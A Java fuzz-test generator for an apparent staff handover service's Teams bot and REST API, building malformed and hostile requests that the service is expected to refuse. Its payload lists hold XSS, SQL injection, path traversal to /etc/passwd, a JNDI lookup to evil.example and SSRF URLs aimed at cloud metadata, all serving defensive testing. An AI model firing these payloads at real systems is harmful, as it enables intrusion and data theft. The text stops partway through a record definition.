package io.handover;

import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.Function;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;
import io.handover.HostileInput.Expect;
import io.handover.common.Limits;
import io.handover.testing.ConnectorStub.Member;
import io.handover.testing.TeamsActivity;

/**
 * Generates malformed and hostile requests for {@code /api/messages} and the REST API
 * from a seeded random source, so a failing case repeats. Every generated request is
 * invalid by construction (or, where marked {@link Expect#ANSWERED_OR_REFUSED},
 * harmless): a correct service refuses it, or answers without changing anything.
 */
final class HostileInputs {

	private static final ObjectMapper JSON = new ObjectMapper();

	private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

	/** Values of a type no field of an activity expects at that place. */
	private static final List<JsonNode> WRONG_TYPES = List.of(NODES.numberNode(42), NODES.numberNode(-1.5e300),
			NODES.booleanNode(true), NODES.arrayNode().add("x").add(7), NODES.objectNode().put("id", 7),
			NODES.nullNode(), NODES.textNode(""), NODES.textNode(" "), NODES.textNode("\u0000\u202e"),
			NODES.objectNode().set("$gt", NODES.textNode("")), NODES.arrayNode());

	/** Strings people use to break things. */
	static final List<String> HOSTILE = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
			"\"><svg onload=alert(1)>", "Robert'); DROP TABLE employees;--", "' OR '1'='1", "{\"$gt\": \"\"}", "$where",
			"../../../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "\u0000", "\uFEFF\u202E\u200B",
			"${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "${7*7}", "JML-0001\"; drop", "😀".repeat(50),
			"\n\r\t", "null", "undefined", "NaN", "-1", "99999999999999999999999", "JML-99999999", "ﷺ".repeat(30));

	/** Dates no calendar has, and dates in the past. */
	static final List<String> BAD_DATES = List.of("31-02", "2027-02-31", "2027-02-29", "2027-13-01", "2027-00-10",
			"0000-00-00", "9999-99-99", "31/02/2027", "2027-2-30", "30 februari 2027", "31 februari", "2020-01-01",
			"1900-01-01", "yesterday", "not a date");

	/** Dates the API's ISO format cannot read. */
	static final List<String> BAD_ISO_DATES = List.of("2027-02-31", "31-02", "2027-13-01", "2027-02-29", "0000-00-00",
			"9999-99-99", "2027-1-1", "2027/03/01", "", "tomorrow", "2027-03-01T25:00");

	/** Every REST call with one id in its path, and a body it accepts. */
	private static final List<Call> PATH_CALLS = List.of(new Call("GET", "/api/employees/{id}", null),
			new Call("GET", "/api/tickets/{id}", null), new Call("GET", "/api/tasks/{id}", null),
			new Call("GET", "/api/assets/{id}", null), new Call("GET", "/api/assets/held-by/{id}", null),
			new Call("GET", "/api/apps/{id}", null), new Call("GET", "/api/profiles/{id}", null),
			new Call("GET", "/api/departments/{id}", null), new Call("POST", "/api/tasks/{id}/claim", null),
			new Call("POST", "/api/tasks/{id}/unblock", null),
			new Call("POST", "/api/tasks/{id}/complete", "{\"inputs\":{}}"),
			new Call("POST", "/api/tasks/{id}/not-needed", "{\"reason\":\"x\"}"),
			new Call("POST", "/api/tasks/{id}/remote-wipe-approval", null),
			new Call("POST", "/api/tickets/{id}/leaver-runbook", null),
			new Call("POST", "/api/tickets/{id}/leaver-runbook-approval", null),
			new Call("POST", "/api/leavers/{id}/check", null),
			new Call("POST", "/api/tickets/{id}/cancel", "{\"reason\":\"x\"}"),
			new Call("DELETE", "/api/employees/{id}/leaving", null),
			new Call("PUT", "/api/employees/{id}/leaving", "{\"lastWorkingDay\":\"2027-03-31\"}"),
			new Call("POST", "/api/assets/{id}/restock", null), new Call("POST", "/api/assets/{id}/wipe", null),
			new Call("POST", "/api/assets/{id}/retire", "{\"why\":\"x\"}"),
			new Call("POST", "/api/assets/assignments/{id}/receipt", null),
			new Call("POST", "/api/assets/assignments/{id}/lost", "{\"why\":\"x\"}"),
			new Call("DELETE", "/api/apps/{id}", null));

	private record Call(String method, String path, String body) {
	}

	private static final String[] INVOKE_NAMES = { "composeExtension/query", "composeExtension/fetchTask", "task/fetch",
			"task/submit", "signin/verifyState", "signin/tokenExchange", "fileConsent/invoke",
			"actionableMessage/executeAction", "config/fetch", "tab/fetch", "healthCheck", "adaptiveCard/Action",
			"adaptivecard/action", "adaptiveCard/action ", "message/submitAction", "" };

	private static final String[] TASK_VERBS = { "task.claim", "task.done", "task.notNeeded", "task.reassign" };

	private static final String[] WRONG_CONTENT_TYPES = { "text/plain", "application/xml", "text/html",
			"application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz", "application/octet-stream",
			"image/png", "text/csv", "application/javascript" };

	private final Random random;

	private final Fixture fixture;

	private final List<Generator> generators = new ArrayList<>();

	private int conversations;

	HostileInputs(long seed, Fixture fixture) {
		this.random = new Random(seed);
		this.fixture = fixture;
		// weights: roughly the share of each class; the cheap refusals get more cases
		add("bot: broken JSON", 8, this::brokenActivity);
		add("bot: required field missing or of the wrong type", 8, this::requiredFieldWrong);
		add("bot: any other field of the wrong type", 10, this::otherFieldWrong);
		add("bot: huge text or field", 2, this::hugeActivity);
		add("bot: unknown invoke name", 4, this::unknownInvoke);
		add("bot: unknown or malformed card action", 5, this::malformedCardAction);
		add("bot: card data with foreign ticket/task ids", 6, this::foreignIds);
		add("bot: forged from against the card's authorisation", 6, this::forgedFrom);
		add("bot: form with impossible dates or markup names", 5, this::badForm);
		add("bot: wrong content type", 3, this::botContentType);
		add("api: broken JSON body", 6, this::apiBrokenJson);
		add("api: missing field or wrong type", 10, this::apiWrongField);
		add("api: huge values", 3, this::apiHuge);
		add("api: script/HTML in names, impossible dates", 4, this::apiMarkupAndDates);
		add("api: bad path ids", 8, this::apiBadPath);
		add("api: bad query params", 6, this::apiBadQuery);
		add("api: query params out of range or of the wrong type", 4, this::apiInvalidQuery);
		add("api and bot: ids over their length cap", 4, this::overlongIds);
		add("api: wrong content type", 4, this::apiContentType);
	}

	/** The classes of input, in the order of the figures. */
	List<String> kinds() {
		return this.generators.stream().map(Generator::kind).toList();
	}

	/**
	 * {@code count} inputs, spread over the classes by weight (every class at least
	 * once).
	 */
	List<HostileInput> generate(int count) {
		int totalWeight = this.generators.stream().mapToInt(Generator::weight).sum();
		List<HostileInput> inputs = new ArrayList<>();
		for (Generator generator : this.generators) {
			int share = Math.max(1, count * generator.weight() / totalWeight);
			for (int i = 0; i < share; i++) {
				inputs.add(generator.next().get().apply(generator.kind()));
			}
		}
		java.util.Collections.shuffle(inputs, this.random);
		return inputs;
	}

	private void add(String kind, int weight, java.util.function.Supplier<Function<String, HostileInput>> next) {
		this.generators.add(new Generator(kind, weight, next));
	}

	private record Generator(String kind, int weight,
			java.util.function.Supplier<Function<String, HostileInput>> next) {
	}

	// ------------------------------------------------------------------ the bot endpoint

	private Function<String, HostileInput> brokenActivity() {
		String valid = message().json();
		String body = switch (this.random.nextInt(7)) {
			case 0, 1 -> valid.substring(0, 1 + this.random.nextInt(valid.length() - 2));
			case 2 -> randomText(1 + this.random.nextInt(300));
			case 3 -> pick(List.of("", "null", "42", "true", "\"help\"", "[]", "[{}]", "{}", "{\"type\":",
					"<activity/>", "\u0000\u0001\u0002", "{'type':'message'}", "{type: message}", "[" + valid + "]"));
			case 4 -> "[".repeat(2000 + this.random.nextInt(20_000));
			case 5 -> "{\"a\":".repeat(2000 + this.random.nextInt(5_000));
			default -> valid.replace(":", ";").replaceFirst("\\{", "");
		};
		return kind -> HostileInput.bot(kind, body, Expect.REFUSED);
	}

	private Function<String, HostileInput> requiredFieldWrong() {
		ObjectNode activity = (this.random.nextBoolean() ? message() : helpClick()).node();
		String field = pick(List.of("type", "channelId", "serviceUrl", "conversation", "conversation.id"));
		int how = this.random.nextInt(4);
		if (how == 0) {
			remove(activity, field);
		}
		else if (how == 1 && field.equals("serviceUrl")) {
			activity.put("serviceUrl", pick(List.of("not a url", "ftp://127.0.0.1/x", "javascript:alert(1)", "http://",
					"https://evil.example/", "http://169.254.169.254/latest/", "//127.0.0.1", "file:///etc/passwd")));
		}
		else {
			JsonNode wrong = pick(WRONG_TYPES);
			if (field.equals("conversation") && wrong.isObject() && !wrong.has("$gt")) {
				wrong = NODES.textNode("a:conversation");
			}
			replace(activity, field, wrong);
		}
		return kind -> HostileInput.bot(kind, activity.toString(), Expect.REFUSED);
	}

	private Function<String, HostileInput> otherFieldWrong() {
		ObjectNode activity = (this.random.nextBoolean() ? message() : helpClick()).node();
		List<String> paths = fieldPaths(activity, "");
		paths.removeAll(Set.of("type", "channelId", "serviceUrl", "conversation", "conversation.id"));
		String path = pick(paths);
		JsonNode wrong = this.random.nextInt(5) == 0 ? NODES.textNode(pick(HOSTILE)) : pick(WRONG_TYPES);
		replace(activity, path, wrong);
		return kind -> HostileInput.bot(kind, activity.toString(), Expect.ANSWERED_OR_REFUSED);
	}

	private Function<String, HostileInput> hugeActivity() {
		int choice = this.random.nextInt(4);
		if (choice == 0) {
			// over the 256 kB body limit
			String text = "x".repeat(270_000 + this.random.nextInt(800_000));
			String body = message().text(text).json();
			return kind -> HostileInput.bot(kind, body, Expect.REFUSED);
		}
		if (choice == 1) {
			// under the body limit, over the text limit: answered "too long" without
			// reading
			String text = "Anna de Vries starts on 7 December as account manager "
					+ words(20_001 + this.random.nextInt(220_000));
			String body = message().text(text).json();
			return kind -> HostileInput.bot(kind, body, Expect.ANSWERED_OR_REFUSED);
		}
		ObjectNode activity = (choice == 2 ? message() : helpClick()).node();
		String path = pick(fieldPaths(activity, ""));
		replace(activity, path, NODES.textNode("y".repeat(5_000 + this.random.nextInt(150_000))));
		return kind -> HostileInput.bot(kind, activity.toString(), Expect.ANSWERED_OR_REFUSED);
	}

	private Function<String, HostileInput> unknownInvoke() {
		TeamsActivity invoke = helpClick();
		String name = this.random.nextBoolean() ? pick(List.of(INVOKE_NAMES)) : randomText(1 + this.random.nextInt(60));
		invoke.set("name", name);
		if (this.random.nextBoolean()) {
			invoke.remove("name");
		}
		return kind -> HostileInput.bot(kind, invoke.json(), Expect.REFUSED);
	}

	private Function<String, HostileInput> malformedCardAction() {
		TeamsActivity invoke = helpClick();
		ObjectNode value = (ObjectNode) invoke.node().get("value");
		ObjectNode action = (ObjectNode) value.get("action");
		switch (this.random.nextInt(6)) {
			case 0 -> action.put("verb", this.random.nextBoolean() ? pick(HOSTILE) : randomText(20));
			case 1 -> action.put("type", pick(List.of("Action.Submit", "Action.OpenUrl", "", "action.execute")));
			case 2 -> action.set("type", pick(WRONG_TYPES));
			case 3 -> value.remove("action");
			case 4 -> invoke.node().set("value", pick(WRONG_TYPES));
			default -> action.remove("verb");
		}
		return kind -> HostileInput.bot(kind, invoke.json(), Expect.REFUSED);
	}

	/**
	 * A department member's click on a task that does not exist, or that belongs to
	 * another department, or with a card whose ids do not belong together.
	 */
	private Function<String, HostileInput> foreignIds() {
		Fixture f = this.fixture;
		String verb = pick(List.of(TASK_VERBS));
		Map<String, Object> data = new LinkedHashMap<>();
		switch (this.random.nextInt(5)) {
			case 0 -> {
				data.put("taskId", pick(HOSTILE));
				data.put("ticketKey", f.ticketKey());
				data.put("departmentKey", "IT");
			}
			case 1 -> {
				data.put("taskId", f.ticketKey() + "-" + (900 + this.random.nextInt(99)));
				data.put("ticketKey", f.ticketKey());
				data.put("departmentKey", "IT");
			}
			case 2 -> {
				// someone else's department's task, claimed as IT's
				data.put("taskId", f.fmTaskId());
				data.put("ticketKey", f.ticketKey());
				data.put("departmentKey", "IT");
			}
			case 3 -> {
				data.put("taskId", f.fmTaskId());
				data.put("ticketKey", "JML-" + (9000 + this.random.nextInt(999)));
				data.put("departmentKey", "FM");
			}
			default -> {
				data.put("taskId",
						this.random.nextBoolean() ? NODES.numberNode(7) : NODES.arrayNode().add(f.itTaskId()));
				data.put("departmentKey", this.random.nextBoolean() ? "IT" : pick(HOSTILE));
			}
		}
		addInputs(data, verb, String.valueOf(data.get("taskId")));
		TeamsActivity click = channelClick(verb, data, f.itStaff());
		return kind -> HostileInput.bot(kind, click.json(), Expect.REFUSED);
	}

	/**
	 * A click on an IT task (right ids, right department) by someone who is not IT staff,
	 * however the {@code from} is dressed up.
	 */
	private Function<String, HostileInput> forgedFrom() {
		Fixture f = this.fixture;
		String verb = pick(List.of(TASK_VERBS));
		Map<String, Object> data = new LinkedHashMap<>();
		data.put("taskId", f.itTaskId());
		data.put("ticketKey", f.ticketKey());
		data.put("departmentKey", "IT");
		addInputs(data, verb, f.itTaskId());
		Member it = f.itStaff();
		Member fm = f.fmStaff();
		TeamsActivity click = channelClick(verb, data, it);
		ObjectNode from = NODES.objectNode();
		switch (this.random.nextInt(9)) {
			case 0 -> from.put("id", "29:" + randomText(10)).put("aadObjectId", randomText(12)).put("name", it.name());
			case 1 -> from.put("id", it.aadObjectId()).put("aadObjectId", it.id()).put("name", it.name());
			case 2 -> from.put("id", it.id().toUpperCase()).put("name", it.name());
			case 3 -> from.put("id", it.id() + " ").put("aadObjectId", " " + it.aadObjectId());
			case 4 -> from.put("id", fm.id()).put("aadObjectId", fm.aadObjectId()).put("name", it.name());
			case 5 -> from.put("name", it.name());
			case 6 -> from.set("id", pick(WRONG_TYPES));
			case 7 -> from.put("id", "").put("aadObjectId", "").put("name", "");
			default -> from.put("id", pick(HOSTILE)).put("aadObjectId", pick(HOSTILE)).put("name", pick(HOSTILE));
		}
		if (this.random.nextInt(10) == 0) {
			click.remove("from");
		}
		else {
			click.node().set("from", from);
		}
		return kind -> HostileInput.bot(kind, click.json(), Expect.REFUSED);
	}

	/**
	 * A form whose answers cannot open a ticket: an impossible date or a name with
	 * markup.
	 */
	private Function<String, HostileInput> badForm() {
		String kindOfForm = pick(List.of("starter", "leaver", "mover"));
		Map<String, Object> data = new LinkedHashMap<>();
		if (this.random.nextInt(8) != 0) {
			data.put("draftId", this.random.nextBoolean() ? "d-" + randomHex(24) : pick(HOSTILE));
		}
		boolean markup = this.random.nextInt(3) == 0;
		String name = markup ? pick(List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
				"Anna <b>de Vries</b>", "Jan\"><svg onload=alert(1)>")) : "Anna de Vries " + randomLetters(6);
		data.put("employeeName", name);
		String date = markup ? "2027-03-01" : pick(BAD_DATES);
		data.put(kindOfForm.equals("starter") ? "startDate" : kindOfForm.equals("leaver") ? "lastWorkingDay" : "date",
				date);
		data.put("roleProfile", pick(List.of("account-manager", "care-worker", pick(HOSTILE))));
		data.put("currentRole", "account-manager");
		data.put("workLocation", pick(List.of("OFFICE", "REMOTE", "MOON", "")));
		data.put("deviceRetrieval", pick(List.of("IN_PERSON", "COURIER", "TELEPORT")));
		if (this.random.nextInt(4) == 0) {
			// a wrong type anywhere but the name and the date (a number there reads as
			// text)
			List<String> others = new ArrayList<>(data.keySet());
			others.removeAll(List.of("employeeName", "startDate", "lastWorkingDay", "date"));
			String field = pick(others);
			data.put(field, pick(List.of(NODES.numberNode(31), NODES.arrayNode().add("x"), NODES.objectNode())));
		}
		TeamsActivity click = TeamsActivity.cardAction("form." + kindOfForm + ".submit", data)
			.conversation(nextConversation())
			.serviceUrl(this.fixture.serviceUrl());
		return kind -> HostileInput.bot(kind, click.json(), Expect.REFUSED);
	}

	private Function<String, HostileInput> botContentType() {
		String body = this.random.nextBoolean() ? message().json() : helpClick().json();
		String type = this.random.nextInt(10) == 0 ? null : pick(List.of(WRONG_CONTENT_TYPES));
		return kind -> HostileInput.bot(kind, body, Expect.REFUSED).withContentType(type);
	}

	// ------------------------------------------------------------------ the REST API

	/**
	 * The API's requests with a JSON body: path, the id filled in, a valid-looking body.
	 */
	private List<Endpoint> jsonEndpoints() {
		Fixture f = this.fixture;
		return List.of(new Endpoint("POST", "/api/employees", null, employee()),
				new Endpoint("PUT", "/api/employees/{id}/leaving", f.employeeId(),
						obj().put("lastWorkingDay", "2027-03-31")),
				new Endpoint("POST", "/api/tickets", null, ticket()),
				new Endpoint("POST", "/api/tickets/{id}/reschedule", f.ticketKey(),
						obj().put("date", "2027-03-01").put("reason", "moved")),
				new Endpoint("POST", "/api/tickets/{id}/cancel", f.ticketKey(), obj().put("reason", "withdrawn")),
				new Endpoint("POST", "/api/tasks/{id}/not-needed", f.itTaskId(), obj().put("reason", "not needed")),
				new Endpoint("POST", "/api/tasks/{id}/reassign", f.itTaskId(),
						obj().put("toId", "someone").put("toName", "Someone")),
				new Endpoint("POST", "/api/tasks/{id}/block", f.itTaskId(), obj().put("reason", "waiting")),
				new Endpoint("POST", "/api/tasks/{id}/return", f.itTaskId(), signature()),
				new Endpoint("POST", "/api/tasks/{id}/lost", f.itTaskId(), obj().put("reason", "lost")),
				new Endpoint("POST", "/api/assets/issue", null,
						obj().put("employeeId", f.employeeId())
							.put("type", "laptop")
							.put("serialNumber", "SN-BAD-" + randomHex(6))),
				new Endpoint("POST", "/api/assets/assignments/{id}/return", "no-such-assignment", signature()),
				new Endpoint("POST", "/api/assets/assignments/{id}/lost", "no-such-assignment",
						obj().put("why", "lost")),
				new Endpoint("POST", "/api/assets/receipts", null,
						obj().put("employeeId", f.employeeId())
							.<ObjectNode>set("assignmentIds", NODES.arrayNode().add("no-such-assignment"))
							.set("signature", signature())),
				new Endpoint("POST", "/api/assets/{id}/retire", "no-such-asset", obj().put("why", "broken")),
				new Endpoint("PUT", "/api/apps/{id}", "bad-input-app-" + randomHex(4), application()),
				new Endpoint("PUT", "/api/profiles/{id}", "bad-input-profile-" + randomHex(4),
						obj().put("title", "Bad input")));
	}

	private Function<String, HostileInput> apiBrokenJson() {
		Endpoint endpoint = pick(jsonEndpoints());
		String valid = endpoint.body().toString();
		String body = switch (this.random.nextInt(5)) {
			case 0, 1 -> valid.substring(0, 1 + this.random.nextInt(valid.length() - 1));
			case 2 -> randomText(1 + this.random.nextInt(200));
			case 3 -> pick(List.of("", "[]", "42", "\"x\"", "true", "{'a':1}", "{a:1}", "[" + valid + "]"));
			default -> "[".repeat(2000 + this.random.nextInt(5000));
		};
		return kind -> endpoint.request(kind, body, "application/json");
	}

	/**
	 * A required field removed, or a field given a value of a type or form it cannot
	 * take.
	 */
	private Function<String, HostileInput> apiWrongField() {
		Endpoint endpoint = pick(jsonEndpoints());
		ObjectNode body = endpoint.body().deepCopy();
		Map<String, List<JsonNode>> invalid = invalidValues(endpoint);
		String field = pick(new ArrayList<>(invalid.keySet()));
		JsonNode value = pick(invalid.get(field));
		if (value == null || value.isMissingNode()) {
			remove(body, field);
		}
		else {
			replace(body, field, value);
		}
		return kind -> endpoint.request(kind, body.toString(), "application/json");
	}

	private Function<String, HostileInput> apiHuge() {
		Endpoint endpoint = pick(jsonEndpoints());
		if (this.random.nextInt(4) == 0) {
			ObjectNode body = endpoint.body().deepCopy();
			body.put("padding", "z".repeat(1_100_000 + this.random.nextInt(500_000)));
			return kind -> endpoint.request(kind, body.toString(), "application/json");
		}
		ObjectNode body = endpoint.body().deepCopy();
		Map<String, List<JsonNode>> invalid = invalidValues(endpoint);
		String field = pick(new ArrayList<>(invalid.keySet()));
		replace(body, field, NODES.textNode("w".repeat(1_001 + this.random.nextInt(50_000))));
		return kind -> endpoint.request(kind, body.toString(), "application/json");
	}

	private Function<String, HostileInput> apiMarkupAndDates() {
		Fixture f = this.fixture;
		String markup = pick(List.of("<script>alert(1)</script>", "Anna <img src=x onerror=alert(1)>",
				"<b>Jan</b> Bakker", "Eve\"><svg/onload=alert(1)>"));
		return switch (this.random.nextInt(5)) {
			case 0 -> kind -> new Endpoint("POST", "/api/employees", null, employee().put("name", markup)).request(kind,
					null, "application/json");
			case 1 -> kind -> new Endpoint("POST", "/api/tickets", null,
					ticket().set("employee",
							obj().put("name", markup).put("upn", "x" + randomHex(4) + "@contoso.example")))
				.request(kind, null, "application/json");
			case 2 -> kind -> new Endpoint("POST", "/api/tickets", null, ticket().put("date", pick(BAD_ISO_DATES)))
				.request(kind, null, "application/json");
			case 3 -> kind -> new Endpoint("PUT", "/api/employees/{id}/leaving", f.employeeId(),
					obj().put("lastWorkingDay", pick(BAD_ISO_DATES)))
				.request(kind, null, "application/json");
			default -> kind -> new Endpoint("POST", "/api/tickets/{id}/reschedule", f.ticketKey(),
					obj().put("date", pick(List.of("2027-02-31", "31-02", "2027-13-01", "2027-02-29"))))
				.request(kind, null, "application/json");
		};
	}

	private Function<String, HostileInput> apiBadPath() {
		String id = this.random.nextInt(6) == 0 ? "v".repeat(2_000 + this.random.nextInt(6_000))
				: this.random.nextBoolean() ? pick(HOSTILE) : randomText(1 + this.random.nextInt(40));
		Call call = pick(PATH_CALLS);
		Expect expect = call.method().equals("GET") ? Expect.ANSWERED_OR_REFUSED : Expect.REFUSED;
		return kind -> new HostileInput(kind, call.method(), call.path(), id, null,
				call.body() != null ? "application/json" : null, call.body(), expect);
	}

	private Function<String, HostileInput> apiBadQuery() {
		String value = this.random.nextBoolean() ? pick(HOSTILE) : randomText(1 + this.random.nextInt(30));
		String encoded = encode(value);
		String query = pick(List.of("max=" + pick(List.of("0", "51", "-1", "abc", "1e9", "99999999999")) + "&name=Anna",
				"leavingBefore=" + encode(pick(BAD_ISO_DATES)), "", "upn=&name=", "state=" + encoded, "max=" + encoded,
				"status=" + encoded + "&department=IT", "overdue=" + encoded,
				"status=" + pick(List.of("BOGUS", "done", "1")),
				"limit=" + pick(List.of("0", "1001", "-5", "x", encoded)), "today=" + encode(pick(BAD_DATES)),
				"employeeId=", "role=", "subjectType=task", "subjectId=x"));
		String path = pick(List.of("/api/employees", "/api/tickets", "/api/tasks", "/api/assets",
				"/api/assets/outstanding", "/api/assets/handovers", "/api/profiles/match", "/api/audit"));
		return kind -> new HostileInput(kind, "GET", path, null, query, null, null, Expect.ANSWERED_OR_REFUSED);
	}

	/**
	 * An id longer than its cap ({@link io.handover.common.Limits}) in a REST path, a
	 * card's data or an activity: refused before the store is read.
	 */
	private Function<String, HostileInput> overlongIds() {
		String id = randomLetters(Limits.ID + 1 + this.random.nextInt(500));
		switch (this.random.nextInt(3)) {
			case 0 -> {
				Call call = pick(PATH_CALLS);
				return kind -> new HostileInput(kind, call.method(), call.path(), id, null,
						call.body() != null ? "application/json" : null, call.body(), Expect.REFUSED);
			}
			case 1 -> {
				Fixture f = this.fixture;
				Map<String, Object> data = new LinkedHashMap<>();
				data.put("taskId", f.itTaskId());
				data.put("ticketKey", f.ticketKey());
				data.put("departmentKey", "IT");
				data.put(pick(List.of("taskId", "ticketKey", "departmentKey", "serial-" + f.itTaskId())), id);
				TeamsActivity click = channelClick(pick(List.of(TASK_VERBS)), data, f.itStaff());
				return kind -> HostileInput.bot(kind, click.json(), Expect.REFUSED);
			}
			default -> {
				String longId = randomLetters(Limits.TEAMS_ID + 1 + this.random.nextInt(2_000));
				TeamsActivity activity = this.random.nextBoolean() ? message() : helpClick();
				switch (this.random.nextInt(4)) {
					case 0 -> activity.conversation("a:" + longId);
					case 1 -> activity.id(longId);
					case 2 -> activity.node().withObjectProperty("from").put("id", "29:" + longId);
					default -> activity.node().withObjectProperty("from").put("aadObjectId", longId);
				}
				return kind -> HostileInput.bot(kind, activity.json(), Expect.REFUSED);
			}
		}
	}

	/** One query parameter that no search accepts: each must be refused, naming it. */
	private Function<String, HostileInput> apiInvalidQuery() {
		String tooLong = "q".repeat(1_000 + this.random.nextInt(3_000));
		String notANumber = pick(List.of("abc", "1e9", "99999999999", "1.5", "NaN", "%3Cscript%3E"));
		// (a blank value means "not given": the parameter's default applies)
		String notAValue = encode(pick(List.of("BOGUS", "<script>alert(1)</script>", "' OR '1'='1", "{\"$gt\": \"\"}",
				"${jndi:ldap://evil.example/a}", "../../etc/passwd", "😀")));
		List<String> badDates = BAD_ISO_DATES.stream().filter(date -> !date.isEmpty()).toList();
		record Query(String path, String query) {
		}
		Query query = pick(List.of(new Query("/api/tickets", "max=" + pick(List.of("-1", "0", "501", notANumber))),
				new Query("/api/tickets", "state=" + pick(List.of("open", notAValue))),
				new Query("/api/tickets", pick(List.of("employeeId=", "managerUpn=", "requestedBy=")) + tooLong),
				new Query("/api/tasks", "department=" + encode(pick(List.of("NOPE", "I T", pick(HOSTILE))))),
				new Query("/api/tasks", "department=" + tooLong),
				new Query("/api/tasks", "status=" + pick(List.of("done", notAValue))),
				new Query("/api/tasks", "overdue=" + pick(List.of("maybe", "2", notAValue))),
				new Query("/api/employees", "name=Anna&max=" + pick(List.of("0", "51", "-1", notANumber))),
				new Query("/api/employees", "leavingBefore=" + encode(pick(badDates))),
				new Query("/api/employees", pick(List.of("upn=", "name=")) + tooLong), new Query("/api/employees", ""),
				new Query("/api/assets", "limit=" + pick(List.of("0", "1001", "-5", notANumber))),
				new Query("/api/assets", "status=" + pick(List.of("in_stock", notAValue))),
				new Query("/api/assets", "type=" + tooLong),
				new Query("/api/assets/outstanding", "today=" + encode(pick(badDates))),
				new Query("/api/assets/handovers",
						pick(List.of("", "employeeId=", "employeeId=%20", "employeeId=" + tooLong))),
				new Query("/api/profiles/match", pick(List.of("", "role=", "role=%20", "role=" + tooLong)))));
		return kind -> new HostileInput(kind, "GET", query.path(), null, query.query().isEmpty() ? null : query.query(),
				null, null, Expect.REFUSED);
	}

	private Function<String, HostileInput> apiContentType() {
		if (this.random.nextInt(4) == 0) {
			String path = pick(List.of("/api/employees/import", "/api/assets/import"));
			String body = "name,upn\n\"Anna de Vries\",anna." + randomHex(6) + "@contoso.example\n";
			String type = pick(List.of("application/json", "application/xml", "image/png", "multipart/form-data"));
			return kind -> new HostileInput(kind, "POST", path, null, null, type, body, Expect.REFUSED);
		}
		Endpoint endpoint = pick(jsonEndpoints());
		String type = pick(List.of(WRONG_CONTENT_TYPES));
		String body = this.random.nextBoolean() ? endpoint.body().toString() : "lastWorkingDay=2027-03-31";
		return kind -> endpoint.request(kind, body, type);
	}

	/**
	 * Per endpoint: each field a refusal can hinge on, with values that must be refused.
	 */
	private Map<String, List<JsonNode>> invalidValues(Endpoint endpoint) {
		JsonNode missing = tools.jackson.databind.node.MissingNode.getInstance();
		List<JsonNode> notText = List.of(missing, NODES.arrayNode().add("x"), NODES.objectNode().put("a", 1),
				NODES.textNode(""), NODES.textNode("   "));
		List<JsonNode> notDate = List.of(missing, NODES.textNode("2027-02-31"), NODES.textNode("31-02"),
				NODES.booleanNode(true), NODES.arrayNode(), NODES.objectNode(), NODES.textNode("tomorrow"));
		Map<String, List<JsonNode>> fields = new LinkedHashMap<>();
		switch (endpoint.path()) {
			case "/api/employees" -> {
				fields.put("name", notText);
				fields.put("upn", List.of(NODES.arrayNode(), NODES.objectNode(), NODES.textNode("u".repeat(321))));
			}
			case "/api/employees/{id}/leaving" -> fields.put("lastWorkingDay", notDate);
			case "/api/tickets" -> {
				fields.put("kind", List.of(missing, NODES.textNode("ALIEN"), NODES.arrayNode(), NODES.numberNode(9)));
				fields.put("date", notDate);
				fields.put("employee", List.of(missing, NODES.textNode("Anna"), NODES.arrayNode()));
				fields.put("workLocation", List.of(NODES.textNode("MOON"), NODES.arrayNode()));
				fields.put("profile", List.of(NODES.textNode("p".repeat(101)), NODES.objectNode()));
			}
			case "/api/tickets/{id}/reschedule" -> fields.put("date", notDate);
			case "/api/tickets/{id}/cancel", "/api/tasks/{id}/not-needed", "/api/tasks/{id}/block",
					"/api/tasks/{id}/lost" ->
				fields.put("reason", List.of(missing, NODES.textNode(""), NODES.textNode(" "),
						NODES.textNode("r".repeat(1001)), NODES.arrayNode(), NODES.objectNode()));
			case "/api/tasks/{id}/reassign" -> fields.put("toId", notText);
			case "/api/tasks/{id}/return", "/api/assets/assignments/{id}/return" -> {
				fields.put("signerId", notText);
				fields.put("channel", List.of(missing, NODES.textNode("CARRIER_PIGEON"), NODES.arrayNode()));
				fields.put("contentShown", notText);
			}
			case "/api/assets/issue" -> {
				fields.put("employeeId", notText);
				fields.put("serialNumber", notText);
				fields.put("type", List.of(missing, NODES.textNode(""), NODES.textNode("t".repeat(61))));
			}
			case "/api/assets/receipts" -> {
				fields.put("assignmentIds",
						List.of(missing, NODES.arrayNode(), NODES.textNode("a"), NODES.arrayNode().add("")));
				fields.put("signature", List.of(missing, NODES.textNode("signed"), NODES.objectNode()));
			}
			case "/api/assets/{id}/retire", "/api/assets/assignments/{id}/lost" -> fields.put("why", notText);
			case "/api/apps/{id}" -> {
				fields.put("name", notText);
				fields.put("owner", List.of(missing, NODES.textNode("IT"), NODES.arrayNode()));
				fields.put("deactivation", List.of(missing, NODES.textNode("manual"), NODES.arrayNode()));
			}
			case "/api/profiles/{id}" -> {
				fields.put("title", notText);
				fields.put("aliases", List.of(NODES.arrayNode().add(""), NODES.textNode("x"), NODES.objectNode()));
			}
			default -> throw new IllegalStateException("No invalid values for " + endpoint.path());
		}
		return fields;
	}

	private ObjectNode employee() {
		return obj().put("name", "Anna de Vries " + randomLetters(6))
			.put("upn", "anna." + randomHex(8) + "@contoso.example");
	}

	private ObjectNode ticket() {
		ObjectNode ticket = obj().put("kind", "JOINER").put("date", "2027-03-01").put("profile", "account-manager");
		ticket.putObject("employee")
			.put("name", "Anna de Vries " + randomLetters(6))
			.put("upn", "anna." + randomHex(8) + "@contoso.example");
		return ticket;
	}

	private static ObjectNode signature() {
		return obj().put("signerId", "aad-someone").put("channel", "API").put("contentShown", "sha256:abc");
	}

	private static ObjectNode application() {
		ObjectNode app = obj().put("name", "Bad input app").put("federated", false);
		app.putObject("owner").put("name", "IT").put("email", "it@contoso.example");
		app.putObject("deactivation").put("method", "MANUAL").put("instructions", "Remove the account");
		return app;
	}

	private static ObjectNode obj() {
		return NODES.objectNode();
	}

	/** A JSON request to the API, with the endpoint's body when none is given. */
	private record Endpoint(String method, String path, String id, ObjectNode body) {

		HostileInput request(String kind, String requestBody, String contentType) {
